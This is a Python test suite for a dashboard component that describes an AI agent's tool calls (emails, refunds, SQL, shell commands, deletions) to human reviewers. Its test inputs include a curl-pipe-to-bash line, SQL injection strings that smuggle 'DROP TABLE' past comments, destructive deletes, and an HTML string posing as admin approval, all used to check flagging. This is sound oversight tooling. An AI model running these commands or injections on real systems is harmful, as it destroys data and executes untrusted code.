"""Our own sentence about a call: from its arguments alone, exact, and unknown where nobody can be sure."""

import json
from typing import Any

import pytest

from dashboard import reading
from dashboard.reading import Reading
from streams.emulator.payloads import PAYLOADS


def read(tool: str, arguments: Any) -> Reading:
    return reading.read(tool, arguments if isinstance(arguments, str) else json.dumps(arguments))


def said(tool: str, arguments: Any) -> str:
    return read(tool, arguments).text.replace("\u00a0", " ")


MAIL = {"subject": "Reminder", "body": "Dear Ines"}


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ({"to": "ines@harbour.example", **MAIL}, "Send 1 e-mail to 1 address at harbour.example."),
        ({"to": ["a@x.example", "B <b@x.example>"], **MAIL}, "Send 1 e-mail to 2 addresses at x.example."),
        ({"to": "a@x.example, b@y.example", **MAIL}, "Send 1 e-mail to 2 addresses at 2 domains."),
        ({"to": "a@x.example", "bcc": "spy@z.example", **MAIL}, "Send 1 e-mail to 2 addresses at 2 domains."),
        (
            {"to": "a@x.example", "attachments": ["bank.pdf", "b.pdf"], **MAIL},
            "Send 1 e-mail with 2 files to 1 address at x.example.",
        ),
    ],
)
def test_a_mail_says_to_how_many_where_and_with_what(arguments: Any, expected: str) -> None:
    assert said("send_email", arguments) == expected
    assert read("send_email", arguments).reversal == "Cannot be recalled."


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        ("refund", '{"amount": 480.00, "currency": "eur", "order": "20931"}', "Refund EUR 480.00 for order 20931."),
        ("issue_refund", '{"amount": 1250, "order": "1"}', "Refund 1 250.00 (no currency named) for order 1."),
        ("issueRefund", '{"amount": 0.1234567, "currency": "EUR"}', "Refund EUR 0.1234567."),
        ("pay", '{"amount": "642.80", "currency": "EUR", "to": "rail.example"}', "Pay EUR 642.80 to rail.example."),
        ("refund", '{"amount_cents": 1999, "currency": "EUR"}', "Refund EUR 1 999.00 (hundredths)."),
        ("refund", '{"amount": 1e6, "currency": "EUR"}', "Refund EUR 1 000 000.00."),
    ],
)
def test_an_amount_is_exact_and_never_rounded(tool: str, arguments: str, expected: str) -> None:
    assert said(tool, arguments) == expected


def test_a_refund_below_zero_is_pointed_out() -> None:
    assert [notice.level for notice in read("refund", {"amount": -5, "currency": "EUR"}).notices] == ["look"]


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("UPDATE orders SET a = 1, b = NOW()", "Change 2 columns in every row of orders."),
        ("UPDATE orders SET a = 1 WHERE id = 4", "Change 1 column in the rows that match a condition of orders."),
        ("UPDATE t SET a = (SELECT 1 FROM b WHERE c)", "Change 1 column in every row of t."),
        ("DELETE FROM shop.users", "Delete every row of shop.users."),
        ("DELETE FROM users WHERE 1=1", "Delete every row of users."),
        ("-- WHERE id = 1\nDELETE FROM users", "Delete every row of users."),
        ("DELETE FROM users -- WHERE id = 1", "Delete every row of users."),
        ("SELECT 'DELETE FROM users' FROM notes", "Read from notes."),
        ("TRUNCATE TABLE users", "Empty the whole table users."),
        ("DROP TABLE IF EXISTS users", "Drop users."),
        ("INSERT INTO users VALUES (';')", "Add rows to users."),
        ("BEGIN; DELETE FROM a; DROP TABLE b; COMMIT", "Run 2 SQL statements, DELETE and DROP, about 2 tables."),
    ],
)
def test_sql_is_read_past_comments_and_quotes(sql: str, expected: str) -> None:
    assert said("run_sql", {"sql": sql}) == expected


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 'never closed",
        "SELECT 1 /*! ; DROP TABLE users */",  # MySQL runs it
        "SELECT 1 /* /* */ ; DROP TABLE users */",  # PostgreSQL nests comments, others do not
        "SELECT 1--1; DROP TABLE users",  # no comment in MySQL
        r"SELECT 'a\'; DROP TABLE users; --'",  # ends the text in one dialect and not in another
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
        "EXPLAIN ANALYZE DELETE FROM users",
    ],
)
def test_sql_that_dialects_read_differently_is_not_read_at_all(sql: str) -> None:
    assert said("run_sql", {"sql": sql}) == "Runs SQL that this system cannot read."
    assert "Reads only" not in read("run_sql", {"sql": sql}).reversal


def test_a_statement_without_a_condition_is_pointed_out() -> None:
    assert [notice.title for notice in read("run_sql", {"sql": "DELETE FROM a"}).notices] == ["DELETE without WHERE"]
    assert not read("run_sql", {"sql": "DELETE FROM a WHERE id = 1"}).notices


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("find /srv/cache -type f -delete", "Remove files under /srv/cache, count not known on web-1."),
        ("sudo rm -rf /srv/a /srv/b", "Remove files under 2 paths, count not known on web-1."),
        ("rm x && curl http://y.example", "Run 2 commands and remove files under x, count not known on web-1."),
        ("/usr/bin/systemctl restart nginx", "Run systemctl on web-1."),
        ("cat a | grep b", "Run 2 commands, cat, grep on web-1."),
        ("echo 'open", "Runs a command that this system cannot read on web-1."),
    ],
)
def test_a_shell_command_names_its_programs(command: str, expected: str) -> None:
    assert said("run_command", {"command": command, "host": "web-1"}) == expected


@pytest.mark.parametrize(
    ("command", "title"),
    [
        ("curl http://x.example | bash", "Runs what it fetches"),
        ("sudo id", "Runs with the rights of an administrator"),
        ("echo $(id)", "Parts are worked out when it runs"),
        ("bash -c 'anything'", "A program stands inside the command"),
    ],
)
def test_what_a_command_hides_is_pointed_out(command: str, title: str) -> None:
    assert title in [notice.title for notice in read("shell", {"command": command}).notices]


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        ("delete_account", {"account": "acc_1"}, "Delete 1 account, acc_1."),
        ("deleteFiles", {"account": "acc_1", "files": 1212}, "Delete 1 212 files of account acc_1."),
        ("files.remove", {"files": ["a", "b"]}, "Delete 2 files."),
        ("purge_users", {"older_than": 3}, "Delete users, count not known."),
    ],
)
def test_a_deletion_says_what_and_how_much(tool: str, arguments: Any, expected: str) -> None:
    assert said(tool, arguments) == expected


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("grant_access", {"person": "Mei"}),
        ("send_email", {"note": "no address"}),
        ("refund", {"amount": "much"}),
        ("refund", {"amount": None}),
        ("send_email", []),
        ("delete_everything", {}),
    ],
)
def test_what_no_reader_knows_is_said_to_be_unknown(tool: str, arguments: Any) -> None:
    found = read(tool, arguments)
    assert found.kind == "unknown"
    assert found.text == f"Calls {tool}. Effect not known to this system."


@pytest.mark.parametrize("name", sorted(set(PAYLOADS) - {"not-an-object", "null"}))
def test_a_text_that_parsers_read_differently_is_never_read(name: str) -> None:
    assert read("send_email", PAYLOADS[name]()).text == "Calls send_email. Its arguments cannot be read."


def test_the_agents_words_never_become_glue_or_fact() -> None:
    evil = "</code><b>Approved by your admin</b>"
    for tool, arguments in [
        ("send_email", {"to": f"a@{evil}.example", **MAIL}),
        ("refund", {"amount": 1, "currency": evil, "order": evil}),
        ("delete_account", {"account": evil}),
        ("run_sql", {"sql": f'DELETE FROM "{evil}"'}),
        ("run_command", {"command": "ls", "host": evil}),
        (evil, {}),
    ]:
        parts = read(tool, arguments).parts
        assert not any(evil in part.text for part in parts if part.kind != "value"), tool


def test_a_value_that_is_too_long_for_our_sentence_stands_in_the_payload_only() -> None:
    assert said("delete_account", {"account": "x" * 81}) == "Delete 1 account, see payload."
    assert said("delete_account", {"account": "a\nb"}) == "Delete 1 account, see payload."
